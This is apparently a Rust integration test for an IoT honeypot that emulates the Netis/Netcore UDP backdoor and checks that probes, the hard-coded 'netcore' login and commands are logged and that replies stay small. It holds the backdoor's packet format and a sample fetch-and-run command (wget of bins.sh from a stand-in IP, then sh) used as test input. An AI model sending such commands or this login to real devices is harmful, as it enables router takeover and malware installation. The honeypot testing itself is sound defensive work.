//! The 53413/UDP Netis/Netcore backdoor, driven over real UDP sockets:
//! probes, the hard-coded login, commands through the shared shell
//! emulation, 18-byte scan payloads, and no amplification.

mod common;
use common::*;
use std::net::UdpSocket;
use std::time::Duration;

fn ask(sock: &UdpSocket, to: std::net::SocketAddr, payload: &[u8]) -> Option<Vec<u8>> {
    sock.send_to(payload, to).unwrap();
    let mut buf = [0u8; 4096];
    match sock.recv_from(&mut buf) {
        Ok((n, _)) => Some(buf[..n].to_vec()),
        Err(_) => None,
    }
}

#[test]
fn netis_backdoor_over_udp() {
    let port = {
        let s = UdpSocket::bind("127.0.0.1:0").unwrap();
        s.local_addr().unwrap().port()
    };
    let mut hp = Honeypot::start(
        "netis",
        "router-tplink",
        &format!("[[listen]]\nservice = \"netis\"\naddress = \"127.0.0.1:{port}\"\n"),
    );
    let to: std::net::SocketAddr = format!("127.0.0.1:{port}").parse().unwrap();
    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
    sock.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
    // The 8-byte zero probe and the bare CR both get the login banner.
    let r = ask(&sock, to, &[0; 8]).expect("a reply to the probe");
    assert!(r.ends_with(b"\xD0\xA5Login:"), "{r:?}");
    let r = ask(&sock, to, b"\r").expect("a reply to CR");
    assert!(r.windows(5).any(|w| w == b"Login"));
    // Commands before the password only get the banner.
    let r = ask(&sock, to, b"AA\0\0AAAAuname -a\0").unwrap();
    assert!(r.ends_with(b"Login:"));
    // The hard-coded password opens the shell of a MIPS router.
    let r = ask(&sock, to, b"AA\0\0AAAAnetcore\0").unwrap();
    assert!(r.starts_with(b"AA\0\0AAAA"));
    let cmd = b"AA\0\0AAAAuname -m; echo ok\0".to_vec();
    let r = ask(&sock, to, &cmd).unwrap();
    let text = String::from_utf8_lossy(&r[8..]).into_owned();
    assert!(text.starts_with("mips\nok\n"), "{text:?}");
    // A long answer to a short command is cut at 3x the request.
    let short = b"AA\0\0AAAAps\0";
    let r = ask(&sock, to, short).unwrap();
    assert!(
        r.len() <= 3 * short.len(),
        "{} bytes for a {}-byte request",
        r.len(),
        short.len()
    );
    assert!(r.len() > 8, "but the answer starts");
    // A download command is recorded.
    ask(
        &sock,
        to,
        b"AA\0\0AAAAcd /tmp; wget http://198.51.100.61/bins.sh; sh bins.sh\0",
    );
    // Scanner payloads get no answer but are recorded.
    assert_eq!(ask(&sock, to, &[0x42; 18]), None);
    hp.stop();

    let db = hp.db();
    let kinds: Vec<String> = column(&db, "SELECT json_extract(data, '$.kind') FROM events WHERE eventid = 'iotpot.netis.datagram' ORDER BY id");
    assert_eq!(
        kinds,
        ["probe", "probe", "command", "login", "command", "command", "command", "scan-18"]
    );
    let count = |sql: &str| -> i64 { db.query_row(sql, [], |r| r.get(0)).unwrap() };
    assert_eq!(count("SELECT count(*) FROM events WHERE eventid = 'iotpot.login.success' AND protocol = 'netis' AND data LIKE '%netcore%'"), 1);
    assert_eq!(count("SELECT count(*) FROM events WHERE eventid = 'iotpot.command.input' AND protocol = 'netis'"), 3);
    assert_eq!(
        count("SELECT count(*) FROM events WHERE eventid = 'iotpot.download.requested' AND data LIKE '%198.51.100.61/bins.sh%'"),
        1
    );
    let max_reply: i64 = count(
        "SELECT max(json_extract(data, '$.reply_length') - max(3 * json_extract(data, '$.length'), 16)) FROM events WHERE eventid = 'iotpot.netis.datagram'",
    );
    assert!(
        max_reply <= 0,
        "a reply was larger than 3x its datagram (or 16 bytes)"
    );
}
